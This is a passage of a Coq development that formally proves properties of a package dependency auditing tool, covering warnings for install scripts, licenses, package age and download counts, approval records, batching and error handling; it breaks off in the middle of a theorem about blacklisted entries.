Lemma approveOrFail_frame cacheData unapproved w :
  fetched (approveOrFail env cacheData unapproved w).2 = fetched w
  ∧ cacheFiles (approveOrFail env cacheData unapproved w).2 = cacheFiles w.
Proof.
  unfold approveOrFail, exit. repeat case_match; try done.
  rewrite mbind_run. unfold read, writePolicyLock.
  repeat case_match; by simplify_eq.
Qed.

(** X15.  A run whose registry records and download counts are all in the cache
    makes no request and leaves the cache files as they are, in both
    revisions. *)
Theorem fully_cached_run_is_offline dir deps prior w :
  opt_cache env = true →
  readInstalledPackagesFromLockfile satisfies basename irev config dir = Ok deps →
  packageDownloadsJson w = Some (DownloadsJson prior) →
  (∀ dep, dep ∈ deps → registryServes irev w dep) →
  (∀ dep, dep ∈ deps → ∃ count, prior !! d_name dep = Some count ∧ count ≠ 0%Z) →
  fetched (processRepo satisfies basename getTime env irev drev config dir w).2 = fetched w
  ∧ cacheFiles (processRepo satisfies basename getTime env irev drev config dir w).2
    = cacheFiles w.
Proof.
  intros Hcache Hdeps Hprior Hserves Hcounts.
  assert (Hcollect : ∃ r w1,
    collectAndReconcile satisfies basename getTime env irev drev config dir w = (r, w1)
    ∧ (∀ code, r ≠ Exit code)
    ∧ fetched w1 = fetched w ∧ cacheFiles w1 = cacheFiles w).
  { unfold collectAndReconcile, collectWarnings. rewrite !mbind_run.
    pose proof (readWarningsFromLockfile_run w) as Hlock.
    assert (Hread : ∃ r, readWarningsFromLockfile w = (r, w) ∧ ∀ code, r ≠ Exit code).
    { destruct (packagePolicyLock w) as [[|data]|];
        [|destruct Hlock as [? ->]..]; by eexists. }
    destruct Hread as (r0 & -> & Hne0).
    destruct r0 as [cacheData|err|code]; [|by eexists _, _|by destruct (Hne0 code)].
    rewrite mbind_run. unfold liftResult. rewrite Hdeps, Hcache, mbind_run.
    unfold getPackageDownloadCache at 1. rewrite Hprior, mbind_run.
    destruct (checkAll_offline deps
                {| warnings := [];
                   packageDownloadCache := {| kind := PlainObject; own := prior |};
                   checkedPackageDownloads := ∅ |} w Hcache Hserves eq_refl Hcounts)
      as (r & -> & Hne & Hst).
    destruct r as [st|err|code]; [|by eexists _, _|by destruct (Hne code)].
    rewrite mret_run, mbind_run. cbn [fst snd]. unfold saveCounts.
    rewrite (Hst st eq_refl). cbn [packageDownloadCache own]. rewrite Hcache. simpl.
    destruct (bool_decide _); [|rewrite !mret_run; by eexists _, _].
    unfold savePackageDownloadCache.
    destruct (cacheDirWritable env); [|by eexists _, _].
    rewrite mret_run. eexists _, _. split; [done|]. split; [done|]. split; [done|].
    unfold cacheFiles. simpl. by rewrite Hprior. }
  destruct Hcollect as (r & w1 & Hcollect & Hne & Hf & Hc).
  unfold processRepo. rewrite mbind_run, Hcollect.
  destruct r as [reconciled|err|code]; [|done|by destruct (Hne code)].
  destruct (approveOrFail_frame (r_cacheData reconciled) (length (r_warnings reconciled)) w1)
    as [Hf' Hc'].
  by rewrite Hf', Hc'.
Qed.
End counts.

(** ** Where warnings come from *)

Section provenance.
Variable satisfies : string → string → bool.
Variable basename : string → string.
Variable getTime : string → option Z.
Variable env : Env.
Variable irev : IndexRevision.
Variable drev : DownloadsRevision.
Variable config : Config.

Lemma raisedFor_script dep label scripts :
  label = nameAtVersion dep →
  Forall (raisedFor irev config dep) (scriptProblems label scripts).
Proof.
  intros ->.
  pose proof (scriptProblems_type (nameAtVersion dep) scripts) as Hty.
  pose proof (scriptProblems_package (nameAtVersion dep) scripts) as Hpk.
  rewrite Forall_forall in Hty, Hpk. apply Forall_forall. intros problem Hin.
  unfold raisedFor. rewrite (Hty _ Hin).
  destruct (Hpk _ Hin) as (Hl & key & value & Hk & _ & Hc).
  split; [done|]. by exists key, value.
Qed.

Lemma raisedFor_license dep label found :
  label = nameAtVersion dep →
  Forall (raisedFor irev config dep) (licenseProblems config label found).
Proof.
  intros ->.
  pose proof (licenseProblems_type config (nameAtVersion dep) found) as Hty.
  pose proof (licenseProblems_package config (nameAtVersion dep) found) as Hpk.
  rewrite Forall_forall in Hty, Hpk. apply Forall_forall. intros problem Hin.
  unfold raisedFor. rewrite (Hty _ Hin). by apply Hpk.
Qed.

Lemma raisedFor_age dep minAge label time :
  c_minPackageAge config = Some minAge →
  match irev with
  | lib_index_ts => label = nameAtVersion dep ∧ minAge ≠ 0%Z
  | unnamed_part_002 => label = d_name dep ∧ (0 < minAge)%Z
  end →
  Forall (raisedFor irev config dep)
    (ageProblem getTime env minAge label (d_version dep) time).
Proof.
  intros Hcfg Hrev.
  pose proof (ageProblem_type getTime env minAge label (d_version dep) time) as Hty.
  pose proof (ageProblem_package getTime env minAge label (d_version dep) time) as Hpk.
  rewrite Forall_forall in Hty, Hpk. apply Forall_forall. intros problem Hin.
  unfold raisedFor. rewrite (Hty _ Hin). destruct (Hpk _ Hin) as [Hl Hk].
  split; [done|]. exists minAge. split; [done|].
  destruct irev; destruct Hrev as [<- ?]; done.
Qed.

Lemma downloadCheck_raised dep st w st' w' :
  downloadCheck env irev drev config dep st w = (Ok st', w') →
  ∃ new, warnings st' = warnings st ++ new ∧ Forall (raisedFor irev config dep) new.
Proof.
  intros [->|(threshold & downloads & Hen & _ & _ & _ & _ & _ & ->)]%downloadCheck_warnings.
  { exists []. by rewrite app_nil_r. }
  eexists. split; [done|]. constructor; [|constructor].
  unfold raisedFor, lowDownloadsWarning. cbn [w_type w_package w_cacheKey].
  split; [done|]. exists threshold.
  by destruct (enableDownloadCheck_Some _ _ Hen).
Qed.

Lemma checkDependency_raised dep st w st' w' :
  checkDependency getTime env irev drev config dep st w = (Ok st', w') →
  ∃ new, warnings st' = warnings st ++ new ∧ Forall (raisedFor irev config dep) new.
Proof.
  assert (Hdl : ∀ p w1,
    Forall (raisedFor irev config dep) p →
    downloadCheck env irev drev config dep (pushWarnings p st) w1 = (Ok st', w') →
    ∃ new, warnings st' = warnings st ++ new ∧ Forall (raisedFor irev config dep) new).
  { intros p w1 Hp (new & -> & Hnew)%downloadCheck_raised.
    exists (p ++ new). cbn [pushWarnings warnings]. rewrite app_assoc.
    split; [done|]. by apply Forall_app. }
  pose proof raisedFor_script as Hscript.
  pose proof raisedFor_license as Hlicense.
  pose proof raisedFor_age as Hage.
  cut (∀ r, r = irev →
         checkDependency getTime env r drev config dep st w = (Ok st', w') →
         ∃ new, warnings st' = warnings st ++ new
                ∧ Forall (raisedFor irev config dep) new); [by eauto|].
  intros r Hr. unfold checkDependency.
  destruct r; rewrite <- Hr in Hage; cbv iota in Hage; rewrite Hr in Hage;
    cbv iota; rewrite Hr.
  - rewrite mbind_run. unfold checkPackage. rewrite try_catch_run, mbind_run.
    destruct (cacheRegistry env (d_name dep) (d_version dep) w) as [[json| |] w1];
      [| |done]; rewrite mret_run; apply Hdl; [|constructor].
    unfold packageProblems.
    assert (Hfirst : Forall (raisedFor irev config dep)
      match c_minPackageAge config with
      | Some minAge =>
          if (minAge =? 0)%Z then []
          else ageProblem getTime env minAge (d_name dep +:+ "@" +:+ d_version dep)
                 (d_version dep) (rc_time json !! d_version dep)
      | None => []
      end).
    { destruct (c_minPackageAge config) as [minAge|] eqn:Hcfg; [|constructor].
      destruct (minAge =? 0)%Z eqn:Hz; [constructor|].
      apply Hage; [done|]. split; [done|]. by apply Z.eqb_neq. }
    destruct (rc_versions json !! d_version dep) as [meta|]; [|done].
    rewrite !Forall_app. split; [done|]. split; [by apply Hscript|by apply Hlicense].
  - rewrite mbind_run.
    destruct (processLocalPackageJson env config dep w) as [[p| |] w1] eqn:Hp; [|done..].
    assert (Hp' : Forall (raisedFor irev config dep) p).
    { revert Hp. unfold processLocalPackageJson.
      destruct (nodeModules env !! d_path dep) as [[|[scripts|] found]|];
        try (rewrite mret_run; intros [= <- <-]; constructor); [done|].
      rewrite mret_run. intros [= <- <-]. rewrite Forall_app.
      split; [by apply Hscript|by apply Hlicense]. }
    rewrite mbind_run.
    destruct (c_minPackageAge config) as [minAge|] eqn:Hcfg.
    2: { rewrite mret_run. by apply Hdl. }
    destruct (0 <? minAge)%Z eqn:Hpos.
    2: { rewrite mret_run. by apply Hdl. }
    rewrite mbind_run. unfold checkPackageAge. rewrite try_catch_run, mbind_run.
    destruct (cacheRegistryKeys env (d_name dep) (d_version dep) w1) as [[json| |] w2];
      [| |done]; rewrite !mret_run.
    2: { by apply Hdl. }
    pose proof (Hage dep minAge (d_name dep) (rk_time json !! d_version dep) eq_refl) as Ha.
    destruct (ageProblem getTime env minAge (d_name dep) (d_version dep)
                (rk_time json !! d_version dep)) as [|first rest]; simpl.
    { by apply Hdl. }
    intros Hrun. apply (Hdl (p ++ [first]) w2).
    + apply Forall_app. split; [done|]. constructor; [|constructor].
      assert (Hall : Forall (raisedFor irev config dep) (first :: rest)).
      { apply Ha. split; [done|]. by apply Z.ltb_lt. }
      by apply Forall_cons in Hall as [? _].
    + rewrite <- Hrun. f_equal. unfold pushWarnings. simpl. by rewrite app_assoc.
Qed.

Lemma checkAll_raised deps st w st' w' :
  checkAll getTime env irev drev config deps st w = (Ok st', w') →
  ∃ new,
    warnings st' = warnings st ++ new
    ∧ Forall (λ problem, ∃ dep, dep ∈ deps ∧ raisedFor irev config dep problem) new.
Proof.
  rewrite checkAll_flat. intros Hrun.
  apply (forM_prefix_invariant
           (λ done st1 _, ∃ new,
              warnings st1 = warnings st ++ new
              ∧ Forall (λ problem, ∃ dep, dep ∈ done ∧ raisedFor irev config dep problem)
                  new)
           (checkDependency getTime env irev drev config)) with (done := []) in Hrun.
  - done.
  - clear. intros done dep st1 w1 st2 w2 (new & Hst1 & Hnew)
      (more & -> & Hmore)%checkDependency_raised.
    exists (new ++ more). rewrite Hst1, app_assoc. split; [done|].
    apply Forall_app. split.
    + eapply Forall_impl; [exact Hnew|]. intros problem (d & Hd & Hr).
      exists d. split; [|done]. apply elem_of_app. by left.
    + eapply Forall_impl; [exact Hmore|]. intros problem Hr.
      exists dep. split; [|done]. apply elem_of_app. right. left.
  - exists []. by rewrite app_nil_r.
Qed.

(** X16.  Every warning a run leaves to approve, and every entry of the record
    it rebuilds, is about a dependency the extractor returned, and is of a
    kind whose policy is switched on: a script warning names one of the
    four install scripts, a license warning needs a whitelist, an age
    warning a [minPackageAge], a popularity warning a positive
    [minWeeklyDownloads]. *)
Theorem warnings_are_about_installed_packages dir w reconciled w' :
  collectAndReconcile satisfies basename getTime env irev drev config dir w
    = (Ok reconciled, w') →
  ∃ deps,
    readInstalledPackagesFromLockfile satisfies basename irev config dir = Ok deps
    ∧ (∀ problem, problem ∈ r_warnings reconciled →
         ∃ dep, dep ∈ deps ∧ raisedFor irev config dep problem)
    ∧ (∀ entry, entry ∈ r_cacheData reconciled →
         ∃ dep problem,
           dep ∈ deps ∧ raisedFor irev config dep problem ∧ entry = approvalOf problem).
Proof.
  intros (cacheData & st & w1 & Hcollect & -> & _)%collectAndReconcile_Ok.
  apply collectWarnings_Ok in Hcollect as (deps & cache & _ & Hdeps & _ & _ & Hall).
  apply checkAll_raised in Hall as (new & Hst & Hnew). simpl in Hst. subst new.
  rewrite Forall_forall in Hnew.
  exists deps. split; [done|]. split.
  - intros problem Hin. apply Hnew.
    rewrite r_warnings_reconcile in Hin.
    apply list_elem_of_In, filter_In in Hin as [Hin _]. by apply list_elem_of_In.
  - intros entry Hin.
    rewrite r_cacheData_reconcile, js_sort_perm in Hin.
    apply list_elem_of_fmap in Hin as (problem & -> & Hin).
    destruct (Hnew _ Hin) as (dep & Hdep & Hr). by exists dep, problem.
Qed.
End provenance.

(** ** What an approval covers *)

Lemma string_app_assoc (s t u : string) : (s +:+ t) +:+ u = s +:+ t +:+ u.
Proof.
  induction s as [|c s IH]; [by rewrite !append_empty|].
  by rewrite !append_String, IH.
Qed.

Lemma string_app_length (s t : string) :
  String.length (s +:+ t) = String.length s + String.length t.
Proof.
  induction s as [|c s IH]; [by rewrite append_empty|].
  rewrite append_String. simpl. by rewrite IH.
Qed.

Lemma string_app_inv_tail (s1 s2 t : string) : s1 +:+ t = s2 +:+ t → s1 = s2.
Proof.
  revert s2. induction s1 as [|c s1 IH]; intros [|c2 s2] Heq; [done|..].
  - apply (f_equal String.length) in Heq.
    rewrite append_empty, append_String in Heq. simpl in Heq.
    rewrite string_app_length in Heq. lia.
  - apply (f_equal String.length) in Heq.
    rewrite append_empty, append_String in Heq. simpl in Heq.
    rewrite string_app_length in Heq. lia.
  - rewrite !append_String in Heq. injection Heq as -> Heq. f_equal. by apply IH.
Qed.

Lemma single_warning_left (R : list Approval) (problem : Warning) :
  r_warnings (reconcile R [problem]) = [] ↔ previouslyApproved R problem = true.
Proof.
  rewrite r_warnings_reconcile. simpl. by destruct (previouslyApproved R problem).
Qed.

Lemma scriptProblems_single (label key value : string) :
  key ∈ scriptList →
  scriptProblems label [(key, value)]
  = [ {| w_package := label;
         w_message := "will run script " +:+ dquote +:+ key +:+ dquote
                        +:+ ": " +:+ dquote +:+ value +:+ dquote;
         w_type := script;
         w_cacheKey := key +:+ ": " +:+ value |} ].
Proof.
  intros Hkey. unfold scriptProblems. simpl. unfold scriptList_includes.
  by rewrite bool_decide_eq_true_2.
Qed.

(** X17.  An approval covers what was approved and no more.  Against a
    prior record whose entries are all about the package of a warning and
    of its type, the warning is filtered exactly when some entry has its
    [cacheKey].  The [cacheKey] of a script warning fixes the command of
    the script, and that of a popularity warning the threshold, whatever
    the counts: the same script with another command, or the same package
    under another threshold, is asked again.  (An entry about another
    package or of another type can have the same concatenated key.) *)
Theorem approval_is_bound_to_content
    (irev : IndexRevision) (R : list Approval) (problem : Warning) :
  (∀ e, e ∈ R → a_package e = w_package problem ∧ a_type e = w_type problem) →
  (r_warnings (reconcile R [problem]) = []
   ↔ ∃ e, e ∈ R ∧ a_cacheKey e = w_cacheKey problem)
  ∧ (∀ label key value value',
       key ∈ scriptList →
       w_cacheKey <$> scriptProblems label [(key, value)]
       = w_cacheKey <$> scriptProblems label [(key, value')]
       ↔ value = value')
  ∧ (∀ threshold threshold' name downloads downloads',
       w_cacheKey (lowDownloadsWarning irev threshold name downloads)
       = w_cacheKey (lowDownloadsWarning irev threshold' name downloads')
       ↔ threshold = threshold').
Proof.
  intros Hsame. split; [|split].
  - rewrite single_warning_left, previouslyApproved_iff_key. split.
    + intros (c & Hin & Hc). exists c. split; [done|].
      destruct (Hsame c Hin) as [Hp Ht].
      unfold approvalIndexKey, warningIndexKey in Hc. rewrite Hp, Ht in Hc.
      apply (inj (String.app _)) in Hc. by apply string_app_inv_tail in Hc.
    + intros (c & Hin & Hc). exists c. split; [done|].
      destruct (Hsame c Hin) as [Hp Ht].
      unfold approvalIndexKey, warningIndexKey. by rewrite Hp, Ht, Hc.
  - intros label key value value' Hkey.
    rewrite !scriptProblems_single by done. simpl. split; [|by intros ->].
    intros [= Hc]. rewrite <- !string_app_assoc in Hc. by apply (inj (String.app _)) in Hc.
  - intros threshold threshold' name downloads downloads'. simpl.
    split; [|by intros ->]. destruct irev; simpl.
    + by intros ?%(inj pretty).
    + by intros ?%(inj (String.app _))%(inj pretty).
Qed.

(** ** The installed manifest ([part_002]) *)

(** X18.  [processLocalPackageJson] of [part_002] reads one file and changes
    nothing.  It returns at once when the manifest has no [scripts], so it
    raises a license warning only for a manifest that has a [scripts] field
    (under a whitelist that does not hold its license); a missing manifest
    gives no warning, and one that is not JSON ends the run. *)
Theorem local_license_check_needs_scripts (env : Env) (config : Config)
    (dep : Dependency) (w : World) :
  (∀ problems w',
     processLocalPackageJson env config dep w = (Ok problems, w') →
     w' = w
     ∧ ((∃ problem, problem ∈ problems ∧ w_type problem = license)
        ↔ ∃ scripts found,
            nodeModules env !! d_path dep = Some (Manifest (Some scripts) found)
            ∧ c_licenses config ≠ []
            ∧ ∀ l, found = Some l → l ≠ "" → l ∉ c_licenses config))
  ∧ (nodeModules env !! d_path dep = None →
     processLocalPackageJson env config dep w = (Ok [], w))
  ∧ (nodeModules env !! d_path dep = Some BadManifest →
     ∃ err, processLocalPackageJson env config dep w = (Throw err, w)).
Proof.
  unfold processLocalPackageJson. split; [|split].
  2: { by intros ->. }
  2: { intros ->. by eexists. }
  intros problems w'.
  destruct (nodeModules env !! d_path dep) as [[|[scripts|] found]|]; [done|..].
  2,3: rewrite mret_run; intros [= <- <-]; split; [done|]; split;
    [by intros (? & ?%elem_of_nil & _)|by intros (? & ? & ? & _)].
  rewrite mret_run. intros [= <- <-]. split; [done|]. split.
  - intros (problem & [Hin|Hin]%elem_of_app & Hty).
    { pose proof (scriptProblems_type (d_name dep +:+ "@" +:+ d_version dep) scripts) as Hs.
      rewrite Forall_forall in Hs. specialize (Hs _ Hin). congruence. }
    exists scripts, found. split; [done|]. revert Hin. unfold licenseProblems.
    destruct (c_licenses config) as [|l0 ls] eqn:Hl; [by intros ?%elem_of_nil|].
    intros Hin. split; [done|]. intros l -> Hne.
    unfold truthy in Hin. rewrite (proj2 (String.eqb_neq _ _) Hne) in Hin. simpl in Hin.
    destruct (bool_decide (l ∈ l0 :: ls)) eqn:Hdec; [by apply elem_of_nil in Hin|].
    by apply bool_decide_eq_false in Hdec.
  - intros (scripts' & found' & [= <- <-] & Hl & Hnot).
    unfold licenseProblems.
    destruct (c_licenses config) as [|l0 ls] eqn:Hcfg; [done|].
    destruct found as [l|].
    + destruct (truthy l) eqn:Ht.
      * unfold truthy in Ht. apply negb_true_iff, String.eqb_neq in Ht.
        rewrite bool_decide_eq_false_2 by (by apply Hnot).
        eexists. split; [apply elem_of_app; right; left|done].
      * eexists. split; [apply elem_of_app; right; left|done].
    + eexists. split; [apply elem_of_app; right; left|done].
Qed.

(** ** The approval record of another version *)

Lemma nothing_approved (W : list Warning) :
  List.filter (λ w, negb (previouslyApproved [] w)) W = W.
Proof. induction W as [|w W IH]; [done|]. simpl. by rewrite IH. Qed.

(** X19.  An approval record that does not exist, or whose [version] is not [1],
    approves nothing: every warning the run collects is left to approve, so
    the record the run rebuilds holds exactly the triples of the warnings it
    asks about. *)
Theorem record_of_another_version_is_ignored
    (satisfies : string → string → bool) (basename : string → string)
    (getTime : string → option Z) (env : Env) (irev : IndexRevision)
    (drev : DownloadsRevision) (config : Config) (dir : RepoDir)
    (w : World) (reconciled : Reconciled) (w' : World) :
  match packagePolicyLock w with
  | Some (PolicyLockYaml lock) => pl_version lock ≠ 1%Z
  | Some BadPolicyLock | None => True
  end →
  collectAndReconcile satisfies basename getTime env irev drev config dir w
    = (Ok reconciled, w') →
  r_cacheData reconciled ≡ₚ approvalOf <$> r_warnings reconciled.
Proof.
  intros Hlock (cacheData & st & w1 & Hcollect & -> & _)%collectAndReconcile_Ok.
  apply collectWarnings_Ok in Hcollect as (deps & cache & Hread & _).
  assert (cacheData = []) as ->.
  { revert Hread. unfold readWarningsFromLockfile.
    destruct (packagePolicyLock w) as [[|lock]|]; [done| |by intros [= <-]].
    rewrite (proj2 (Z.eqb_neq _ _) Hlock). by intros [= <-]. }
  rewrite r_cacheData_reconcile, r_warnings_reconcile, nothing_approved.
  apply js_sort_perm.
Qed.

(** ** The batches *)

Lemma batchStartsFrom_spec (fuel i len : nat) :
  Forall (λ j, j < len ∧ ∃ k, j = i + k * batchSize) (batchStartsFrom fuel i len).
Proof.
  revert i. induction fuel as [|fuel IH]; intros i; simpl; [constructor|].
  destruct (i <? len) eqn:Hi; [|constructor].
  apply Nat.ltb_lt in Hi. constructor.
  - split; [done|]. exists 0. lia.
  - eapply Forall_impl; [apply IH|]. intros j (Hj & k & ->).
    split; [done|]. exists (S k). lia.
Qed.

(** X26.  The loop [for (let i = 0; i < deps.length; i += batchSize)] cuts
    the dependencies into consecutive batches: the slices, in order, are the
    whole list, every dependency is in exactly one of them, no slice is
    empty and none is longer than [32]. *)
Theorem batches_partition_the_dependencies (deps : list Dependency) :
  concat (map (λ i, slice i deps) (batchStarts deps)) = deps
  ∧ Forall (λ i, i < length deps ∧ ∃ k, i = k * 32) (batchStarts deps)
  ∧ Forall (λ i, 0 < length (slice i deps) ≤ 32) (batchStarts deps).
Proof.
  split; [|split].
  - unfold batchStarts. by rewrite batches_cover by lia.
  - eapply Forall_impl; [apply batchStartsFrom_spec|].
    intros j (Hj & k & ->). split; [done|]. exists k. unfold batchSize. lia.
  - eapply Forall_impl; [apply (batchStartsFrom_spec (length deps) 0)|].
    intros j (Hj & _). unfold slice, batchSize.
    rewrite length_take, length_drop. lia.
Qed.

(** ** Runs that cannot throw *)

Section no_throw.
Variable satisfies : string → string → bool.
Variable basename : string → string.
Variable getTime : string → option Z.
Variable env : Env.
Variable config : Config.

Lemma checkPackage_returns packageName packageVersion w :
  ∃ problems w',
    checkPackage getTime env config packageName packageVersion w = (Ok problems, w').
Proof.
  unfold checkPackage. rewrite try_catch_run, mbind_run.
  destruct (cachedRecord env packageName packageVersion w) as [cache|] eqn:Hhit.
  - unfold cacheRegistry. rewrite Hhit, mret_run. by eexists _, _.
  - destruct (cacheRegistry_miss _ _ _ _ Hhit) as (r & w1 & -> & _ & _ & _ & _ & Hr).
    destruct r as [record|err|code]; [| |done]; rewrite mret_run; by eexists _, _.
Qed.

(** An assignment throws only for the [length] of an array, and leaves
    an object an object and an array an array. *)
Lemma setProperty_returns (obj : JsObject) (name : string) (downloads : Downloads) :
  kind obj = PlainObject ∨ name ≠ "length" →
  ∃ obj', setProperty obj name downloads = Some obj' ∧ kind obj' = kind obj.
Proof.
  intros Hsafe. unfold setProperty. destruct (kind obj) eqn:Hkind; [by eexists|].
  destruct Hsafe as [?|Hname]; [done|].
  rewrite (proj2 (String.eqb_neq _ _) Hname). case_match; by eexists.
Qed.

Lemma downloadCheck_returns irev dep st w :
  kind (packageDownloadCache st) = PlainObject ∨ d_name dep ≠ "length" →
  ∃ st' w',
    downloadCheck env irev unnamed_part_003 config dep st w = (Ok st', w')
    ∧ kind (packageDownloadCache st') = kind (packageDownloadCache st).
Proof.
  intros Hsafe. unfold downloadCheck.
  destruct (enableDownloadCheck config) as [threshold|]; [|by eexists _, _].
  case_match; [by eexists _, _|]. rewrite mbind_run.
  assert (Hlook : ∃ downloads w',
    lookupDownloads env unnamed_part_003 (d_name dep) st w = (Ok downloads, w')).
  { unfold lookupDownloads.
    destruct (checkPackageDownloads_part_003 env (d_name dep) w) as [_ [downloads Hd]].
    repeat case_match; rewrite ?mbind_run, ?Hd; by eexists _, _. }
  destruct Hlook as (downloads & w' & ->). unfold liftResult, recordDownloads.
  destruct (notSentinel downloads); [|by eexists _, _].
  destruct (setProperty_returns _ _ downloads Hsafe) as (obj' & -> & Hkind).
  by eexists _, _.
Qed.

Lemma checkAll_returns deps st w :
  kind (packageDownloadCache st) = PlainObject
  ∨ (∀ dep, dep ∈ deps → d_name dep ≠ "length") →
  ∃ st' w',
    checkAll getTime env lib_index_ts unnamed_part_003 config deps st w = (Ok st', w').
Proof.
  rewrite checkAll_flat. revert st w.
  induction deps as [|dep deps IH]; intros st w Hsafe; simpl.
  - rewrite mret_run. by eexists _, _.
  - rewrite mbind_run. unfold checkDependency at 1. rewrite mbind_run.
    destruct (checkPackage_returns (d_name dep) (d_version dep) w) as (p & w1 & ->).
    destruct (downloadCheck_returns lib_index_ts dep (pushWarnings p st) w1)
      as (st1 & w2 & -> & Hkind).
    { destruct Hsafe as [?|Hnames]; [by left|right]. apply Hnames. left. }
    apply IH. rewrite Hkind. destruct Hsafe as [?|Hnames]; [by left|right].
    intros d Hd. apply Hnames. by right.
Qed.

(** The loop and what precedes it throw only for a local cause. *)
Lemma collectWarnings_throws dir w err w1 :
  collectWarnings satisfies basename getTime env lib_index_ts unnamed_part_003 config
    dir w = (Throw err, w1) →
  packagePolicyLock w = Some BadPolicyLock
  ∨ (∃ err0,
       readInstalledPackagesFromLockfile satisfies basename lib_index_ts config dir
       = Throw err0)
  ∨ (opt_cache env = true ∧ packageDownloadsJson w = Some BadDownloadsJson)
  ∨ (opt_cache env = false
     ∧ ∃ deps dep,
         readInstalledPackagesFromLockfile satisfies basename lib_index_ts config dir
         = Ok deps
         ∧ dep ∈ deps ∧ d_name dep = "length").
Proof.
  unfold collectWarnings. rewrite mbind_run.
  pose proof (readWarningsFromLockfile_run w) as Hlock.
  assert (Hgood : packagePolicyLock w = Some BadPolicyLock
                  ∨ ∃ cacheData, readWarningsFromLockfile w = (Ok cacheData, w)).
  { destruct (packagePolicyLock w) as [[|data]|]; [by left|by right..]. }
  destruct Hgood as [?|Hread]; [by left|].
  destruct Hread as [cacheData ->]. rewrite mbind_run. unfold liftResult.
  destruct (readInstalledPackagesFromLockfile satisfies basename lib_index_ts config dir)
    as [deps|err0|code] eqn:Hdeps.
  2: { intros _. right. left. by eexists. }
  2: { by destruct (readInstalled_no_exit satisfies basename lib_index_ts config dir code). }
  rewrite mbind_run. destruct (opt_cache env) eqn:Hcache.
  - assert (Hget : packageDownloadsJson w = Some BadDownloadsJson
                   ∨ ∃ cache,
                       getPackageDownloadCache w = (Ok cache, w)
                       ∧ kind cache = PlainObject).
    { unfold getPackageDownloadCache.
      destruct (packageDownloadsJson w) as [[|counts]|]; [by left|right; by eexists..]. }
    destruct Hget as [?|(cache & -> & Hkind)]; [intros _; do 2 right; by left|].
    rewrite mbind_run.
    destruct (checkAll_returns deps
                {| warnings := []; packageDownloadCache := cache;
                   checkedPackageDownloads := ∅ |} w) as (st' & w3 & ->); [by left|].
    by rewrite mret_run.
  - rewrite mret_run, mbind_run.
    destruct (decide (Exists (λ dep, d_name dep = "length") deps)) as [Hex|Hno].
    { intros _. do 3 right. split; [done|].
      apply Exists_exists in Hex as (dep & Hdep & Hname). by exists deps, dep. }
    destruct (checkAll_returns deps
                {| warnings := []; packageDownloadCache := emptyArray;
                   checkedPackageDownloads := ∅ |} w) as (st' & w3 & ->).
    { right. intros dep Hdep Hname. apply Hno, Exists_exists. by exists dep. }
    by rewrite mret_run.
Qed.

(** X27.  With [src/lib/index.ts] and the [checkPackageDownloads] of
    [part_003], a run throws only where something local is wrong: neither
    a failed request nor an answer of the registry stops it.  When
    [processRepo] throws, one of these holds: [package-policy.lock] or,
    under [--cache], [package-downloads.json] does not parse; the
    extraction fails; the popularity cache is to be saved and the cache
    directory cannot be written; without [--cache], when the cache is an
    array, a dependency is named [length], the one property whose
    assignment can throw; the prompt fails; or [package-policy.lock] cannot
    be written.  And the loop over the dependencies completes, whatever is
    answered, whenever the cache is an object or no dependency is named
    [length]. *)
Theorem run_survives_the_network dir w err w' :
  processRepo satisfies basename getTime env lib_index_ts unnamed_part_003 config dir w
  = (Throw err, w') →
  (packagePolicyLock w = Some BadPolicyLock
   ∨ (∃ err0,
        readInstalledPackagesFromLockfile satisfies basename lib_index_ts config dir
        = Throw err0)
   ∨ (opt_cache env = true ∧ packageDownloadsJson w = Some BadDownloadsJson)
   ∨ (opt_cache env = true ∧ is_Some (enableDownloadCheck config)
      ∧ cacheDirWritable env = false)
   ∨ (opt_cache env = false
      ∧ ∃ deps dep,
          readInstalledPackagesFromLockfile satisfies basename lib_index_ts config dir
          = Ok deps
          ∧ dep ∈ deps ∧ d_name dep = "length")
   ∨ (opt_ci env = false ∧ answer env (prompts w) = None)
   ∨ (opt_ci env = false ∧ policyLockWritable env = false))
  ∧ (∀ deps st w0,
       kind (packageDownloadCache st) = PlainObject
       ∨ (∀ dep, dep ∈ deps → d_name dep ≠ "length") →
       ∃ st' w1,
         checkAll getTime env lib_index_ts unnamed_part_003 config deps st w0
         = (Ok st', w1)).
Proof.
  intros Hrun. split; [|intros; by apply checkAll_returns].
  revert Hrun. unfold processRepo. rewrite mbind_run.
  destruct (collectAndReconcile satisfies basename getTime env lib_index_ts
              unnamed_part_003 config dir w) as [[reconciled|err1|code] w1] eqn:Hcollect.
  - destruct (quiet_collectAndReconcile _ _ _ _ _ _ _ _ _ _ _ Hcollect) as [_ Hprompts].
    unfold approveOrFail, exit. repeat case_match; try done.
    rewrite mbind_run. unfold read, writePolicyLock. rewrite Hprompts.
    destruct (answer env (prompts w)) as [line|]; [|intros _; do 5 right; by left].
    repeat case_match; try done; intros _; do 6 right; done.
  - intros _. revert Hcollect. unfold collectAndReconcile. rewrite mbind_run.
    destruct (collectWarnings satisfies basename getTime env lib_index_ts
                unnamed_part_003 config dir w) as [[collected|err2|code] w2] eqn:Hloop.
    + rewrite mbind_run. unfold saveCounts.
      destruct (opt_cache env) eqn:Hcache; [|done]. simpl.
      case_bool_decide as Hen; [|done]. unfold savePackageDownloadCache.
      destruct (cacheDirWritable env) eqn:Hwritable; [done|].
      intros _. do 3 right. left. done.
    + intros _. apply collectWarnings_throws in Hloop.
      destruct Hloop as [?|[?|[?|?]]]; [by left|by right; left|by do 2 right; left|].
      do 4 right. by left.
    + done.
  - done.
Qed.
End no_throw.

(** ** The blacklist, over a run *)

Section blacklist_run.
Variable satisfies : string → string → bool.
Variable basename : string → string.
Variable getTime : string → option Z.
Variable env : Env.
Variable irev : IndexRevision.
Variable drev : DownloadsRevision.
Variable config : Config.

(** C4, as the code has it.  If an entry the extractor does not pass over
    (not the root, not [link: true] and, in [part_002], not
    [optional: true]) satisfies the blacklist, and no earlier entry with
    another name or version has the same name@version string, then
    extraction throws, whatever [config.ignore] holds, and the run ends
    with an error in the world it started in: nothing was requested or
    written.  The error is that of the extraction, unless
    [package-policy.lock], which is read before the extraction, does not
    parse.  And a package that satisfies the blacklist yields neither a
    dependency nor a warning: no dependency that extraction returns
    satisfies the blacklist, and every warning a run collects is raised
    for a dependency that extraction returned. *)
Theorem blacklisted_entry_aborts dir l1 p s l2 :
  packageLockJson dir = Some (l1 ++ (p, s) :: l2) →
  skippedEntry irev p s = false →
  blacklistedEntry satisfies basename config p s = true →
  (∀ p' s', (p', s') ∈ l1 →
     nameWithVersionOf basename p' s' = nameWithVersionOf basename p s →
     packageNameOf basename p' s' = packageNameOf basename p s
